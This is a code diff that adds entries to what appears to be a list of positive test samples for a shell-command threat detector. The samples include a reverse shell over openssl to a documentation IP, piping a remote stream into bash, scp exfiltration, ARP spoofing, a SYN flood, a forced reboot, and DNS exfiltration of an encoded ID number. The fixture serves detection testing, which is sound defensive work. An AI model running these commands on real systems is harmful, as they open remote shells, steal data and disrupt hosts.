@@ -60,9 +60,20 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
     ("TUX-052", SH, "shred -u -z /tmp/loot.tgz"),
     ("TUX-053", SH, "sudo shutdown -h now"),
     ("TUX-053", SH, "init 6"),
+    ("TUX-053", SH, "echo b > /proc/sysrq-trigger"),
     ("TUX-054", SH, "userdel -r bob"),
     ("TUX-054", SH, "dscl . -delete /Users/bob"),
     ("TUX-055", SH, "split -b 5000000 /tmp/loot.tgz /tmp/part_"),
+    ("TUX-057", SH, "scp victim@192.0.2.10:/tmp/data.tgz /tmp/"),
+    (
+        "TUX-058",
+        SH,
+        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect"
+        " 192.0.2.10:443 > /tmp/s",
+    ),
+    ("TUX-058", SH, "openssl s_client -quiet -connect 192.0.2.10:443 | /bin/bash"),
+    ("TUX-059", SH, "arpspoof -i eth0 -t 10.0.0.5 10.0.0.1"),
+    ("TUX-060", SH, "hping3 -S -p 80 --flood 10.0.0.5"),
     ("TUX-056", SH, 'enc=$(echo -n 111-11-1111 | base64)\ncurl -XPOST "${enc}.example.org"'),
 )
 
